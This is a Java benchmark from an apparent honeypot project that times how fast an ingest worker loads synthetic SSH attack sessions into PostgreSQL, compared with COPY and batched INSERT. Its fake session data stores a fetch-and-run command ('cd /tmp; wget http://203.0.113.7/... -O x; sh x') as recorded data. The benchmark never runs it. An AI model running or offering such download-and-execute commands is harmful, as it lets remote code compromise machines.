package decnet.bench;

import decnet.bus.Bus;
import decnet.bus.BusMessage;
import decnet.bus.Topic;
import decnet.bus.TopicFilter;
import decnet.core.Config;
import decnet.core.Counters;
import decnet.core.DeckyName;
import decnet.core.Event;
import decnet.core.Peer;
import decnet.core.Places;
import decnet.db.Database;
import decnet.db.fixture.TestDatabase;
import decnet.db.fixture.TestPostgres;
import decnet.journal.JournalConfig;
import decnet.journal.JournalWriter;
import decnet.runtime.WorkerContext;
import decnet.workers.herd.HerdWorkers;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.SplittableRandom;
import java.util.concurrent.locks.LockSupport;
import org.postgresql.PGConnection;

/**
 * How fast worker {@code ingest} brings a journal into PostgreSQL with all that follows from it, beside COPY of the very same rows
 * into the very same tables, and INSERT of 500 of them at a time: {@code IngestBench EVENTS ROUNDS}. The server is the embedded one with
 * its shipped settings. {@code IngestBench EVENTS 0} drains a backlog once and says every tenth of it what this process holds.
 */
public final class IngestBench {
    private static final List<String> TABLES = List.of("session", "event", "command", "credential", "upload");

    private IngestBench() {}

    /** @throws Exception whatever goes wrong */
    public static void main(String[] arguments) throws Exception {
        int events = arguments.length > 0 ? Integer.parseInt(arguments[0]) : 200_000;
        int rounds = arguments.length > 1 ? Integer.parseInt(arguments[1]) : 3;
        if (rounds == 0) {
            backlog(events);
            return;
        }
        List<Double> ingest = new ArrayList<>();
        List<Double> insert = new ArrayList<>();
        List<Double> copy = new ArrayList<>();
        for (int round = 0; round <= rounds; round++) {
            try (TestDatabase test = TestDatabase.create()) {
                Places places = TestPostgres.newPlaces();
                record(places.journal("collect"), events);
                double ingested = events / ingest(test, places, events);
                double copied = events / copy(test, places.state());
                double inserted = events / insert(test);
                TestPostgres.delete(places);
                System.out.printf(
                        Locale.ROOT,
                        "round %d: ingest %.0f/s, COPY %.0f/s, INSERT %.0f/s%n",
                        round,
                        ingested,
                        copied,
                        inserted);
                if (round > 0) { // the first one warms up
                    ingest.add(ingested);
                    copy.add(copied);
                    insert.add(inserted);
                }
            }
        }
        System.out.println("| events with all derived rows | per second |\n|---|---|");
        System.out.printf(Locale.ROOT, "| ingest | %.0f |%n", median(ingest));
        System.out.printf(Locale.ROOT, "| bare COPY of the same rows | %.0f |%n", median(copy));
        System.out.printf(Locale.ROOT, "| INSERT of the same rows, 500 at a time | %.0f |%n", median(insert));
    }

    private static void backlog(int events) throws Exception {
        try (TestDatabase test = TestDatabase.create()) {
            Places places = TestPostgres.newPlaces();
            record(places.journal("collect"), events);
            System.out.printf(Locale.ROOT, "drained at %.0f/s%n", events / ingest(test, places, events));
            TestPostgres.delete(places);
        }
    }

    private static String resident() throws IOException {
        return Files.readAllLines(Path.of("/proc/self/status")).stream()
                .filter(line -> line.startsWith("VmRSS"))
                .findFirst()
                .orElse("VmRSS unknown");
    }

    private static double median(List<Double> values) {
        return values.stream().sorted().toList().get(values.size() / 2);
    }

    /** Sessions of ten events: connect, two log-ins, five commands, one upload, disconnect. */
    private static void record(Path journal, int events) {
        var random = new SplittableRandom(42);
        try (JournalWriter writer = JournalWriter.open(
                journal,
                JournalConfig.from(Config.of(Map.of("journal.max-size", "16g"))),
                InstantSource.system(),
                new Counters())) {
            for (int i = 0; i < events; i++) {
                Map<String, String> fields = new LinkedHashMap<>();
                String type =
                        switch (i % 10) {
                            case 0 -> "connect";
                            case 1, 2 -> {
                                fields.put("principal", "root");
                                fields.put("secret", "password" + random.nextInt(100_000));
                                fields.put("secret_kind", "plaintext");
                                fields.put("outcome", i % 10 == 1 ? "rejected" : "accepted");
                                yield "login_attempt";
                            }
                            case 8 -> {
                                fields.put("name", "x.sh");
                                fields.put("size", "1234");
                                fields.put("sha256", "0123456789abcdef".repeat(4));
                                fields.put("via", "scp");
                                yield "file_upload";
                            }
                            case 9 -> {
                                fields.put("duration_ms", "4711");
                                fields.put("bytes_in", "1000");
                                fields.put("bytes_out", "20000");
                                fields.put("reason", "client");
                                yield "disconnect";
                            }
                            default -> {
                                fields.put(
                                        "command",
                                        "cd /tmp; wget http://203.0.113.7/" + random.nextInt() + " -O x; sh x");
                                fields.put("cwd", "/root");
                                fields.put("user", "root");
                                yield "command";
                            }
                        };
                Event event = Event.of(Instant.now(), new DeckyName("web-" + i / 10 % 50), "ssh", type, fields)
                        .withConnection(
                                String.format(Locale.ROOT, "%016x", i / 10),
                                Peer.of("203.0.113." + i / 10 % 250, 40000),
                                Peer.of("127.1.2." + i / 10 % 50, 10022))
                        .withRecording(Instant.now(), "here");
                writer.append(event);
                if (i % 1000 == 999) {
                    writer.sync();
                }
            }
            writer.sync();
        }
    }

    private static double ingest(TestDatabase test, Places places, int events) throws Exception {
        try (Host host = new Host(test.config(), places)) {
            long start = System.nanoTime();
            var worker = new HerdWorkers().workers().getFirst().factory().get();
            Thread thread = Thread.ofPlatform().name("ingest").start(() -> {
                try {
                    worker.run(host);
                } catch (Exception e) {
                    throw new IllegalStateException("ingest failed", e);
                }
            });
            int tenth = 1;
            for (long done = 0; done < events && thread.isAlive(); LockSupport.parkNanos(1_000_000)) {
                done = host.counters().snapshot().getOrDefault("ingest_events_total", 0L);
                if (events >= 1_000_000 && done >= (long) events * tenth / 10) {
                    System.out.println(done + " events stored, " + resident());
                    tenth++;
                }
            }
            double seconds = (System.nanoTime() - start) / 1e9;
            if (Boolean.getBoolean("cpu")) {
                System.out.println("CPU of ingest: "
                        + java.lang.management.ManagementFactory.getThreadMXBean()
                                        .getThreadCpuTime(thread.threadId())
                                / 1e9
                        + " of " + seconds);
            }
            host.stopping = true;
            thread.join();
            if (test.number("select count(*) from event") != events) {
                throw new IllegalStateException("not all events arrived");
            }
            return seconds;
        }
    }

    private static double copy(TestDatabase test, Path folder) throws SQLException, IOException {
        try (Connection connection =
                DriverManager.getConnection(test.config().get(decnet.db.DatabaseKeys.URL), "decnet", "")) {
            var copies = connection.unwrap(PGConnection.class).getCopyAPI();
            for (String table : TABLES) {
                try (OutputStream file = Files.newOutputStream(folder.resolve(table))) {
                    copies.copyOut("copy (select * from " + table + ") to stdout", file);
                }
            }
            try (var statement = connection.createStatement()) {
                statement.execute("truncate session, event, command, credential, upload");
                statement.execute("checkpoint");
            }
            long start = System.nanoTime();
            for (String table : TABLES) {
                try (InputStream file = Files.newInputStream(folder.resolve(table))) {
                    copies.copyIn("copy " + table + " from stdin", file, 1 << 16);
                }
            }
            return (System.nanoTime() - start) / 1e9;
        }
    }

    /** The rows as they are now, written again by the statement that most programs use. */
    private static double insert(TestDatabase test) throws SQLException {
        try (Connection connection =
                DriverManager.getConnection(test.config().get(decnet.db.DatabaseKeys.URL), "decnet", "")) {
            Map<String, List<String>> rows = new LinkedHashMap<>();
            try (var statement = connection.createStatement()) {
                for (String table : TABLES) {
                    List<String> texts = new ArrayList<>();
                    try (var result = statement.executeQuery("select t::text from " + table + " t")) {
                        while (result.next()) {
                            texts.add(result.getString(1));
                        }
                    }
                    rows.put(table, texts);
                }
                statement.execute("truncate session, event, command, credential, upload");
                statement.execute("checkpoint");
            }
            connection.setAutoCommit(false);
            long start = System.nanoTime();
            for (String table : TABLES) {
                List<String> texts = rows.getOrDefault(table, List.of());
                try (var statement = connection.prepareStatement(
                        "insert into " + table + " select row.* from unnest(cast(? as " + table + "[])) as row")) {
                    for (int i = 0; i < texts.size(); i += 500) {
                        statement.setArray(
                                1,
                                connection.createArrayOf(
                                        "text",
                                        texts.subList(i, Math.min(i + 500, texts.size()))
                                                .toArray()));
                        statement.executeUpdate();
                        connection.commit();
                    }
                }
            }
            return (System.nanoTime() - start) / 1e9;
        }
    }

    /** As much of a process as the worker needs. */
    private static final class Host implements WorkerContext, AutoCloseable {
        private final Config config;
        private final Places places;
        private final Counters counters = new Counters();
        private final Database database;
        private volatile boolean stopping;

        Host(Config config, Places places) {
            this.config = config;
            this.places = places;
            this.database = Database.open(config, places);
        }

        @Override
        public String name() {
            return "ingest";
        }

        @Override
        public String process() {
            return "herd";
        }

        @Override
        public Config config() {
            return config;
        }

        @Override
        public Places places() {
            return places;
        }

        @Override
        public InstantSource clock() {
            return InstantSource.system();
        }

        @Override
        public Bus bus() {
            return new Silence();
        }

        @Override
        public Counters counters() {
            return counters;
        }

        @Override
        public <T extends AutoCloseable> T shared(Class<T> type, Opener<T> opener) {
            return type.cast(database);
        }

        @Override
        public boolean stopping() {
            return stopping;
        }

        @Override
        public boolean pause(Duration atMost) {
            LockSupport.parkNanos(1_000_000);
            return !stopping;
        }

        @Override
        public void wake() {}

        @Override
        public void ready() {}

        @Override
        public void degraded(String reason) {
            System.out.println("degraded: " + reason);
        }

        @Override
        public void close() {
            database.close();
        }
    }

    /** A bus whose broker is away. */
    private static final class Silence implements Bus {
        @Override
        public void publish(Topic topic, String type, com.fasterxml.jackson.databind.node.ObjectNode payload) {}

        @Override
        public Subscription subscribe(
                TopicFilter filter,
                java.util.function.Consumer<BusMessage> handler,
                java.util.function.Consumer<Optional<Topic>> unreadable) {
            return () -> {};
        }

        @Override
        public Optional<com.fasterxml.jackson.databind.node.ObjectNode> request(
                Topic topic, com.fasterxml.jackson.databind.node.ObjectNode payload, Duration timeout) {
            return Optional.empty();
        }

        @Override
        public boolean connected() {
            return false;
        }

        @Override
        public void close() {}
    }
}
